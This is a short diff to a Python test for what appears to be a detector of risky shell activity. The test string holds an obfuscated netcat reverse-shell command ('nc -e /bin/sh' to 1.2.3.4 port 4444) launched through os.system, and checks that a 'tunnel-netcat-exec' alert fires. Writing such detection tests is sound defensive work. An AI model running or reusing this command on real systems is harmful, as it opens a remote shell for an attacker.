@@ -67,7 +67,8 @@ def test_cat_in_a_loop_is_one_notice() -> None:
 
 
 def test_os_system_from_shell_python_raises_alert() -> None:
-    script = """c='import os; os.system("n"+"c -e /bin/sh 1.2.3.4 4444")'; python3 -c "$c" """
+    # the command is pasted together in Python, so only the guest's intent shows it whole
+    script = """c='import os; os.system("n"+"c -e /bin/sh 1.2.3.4 "+"4444")'; python3 -c "$c" """
     got = _alerts(script)
     assert "tunnel-netcat-exec" in got
 
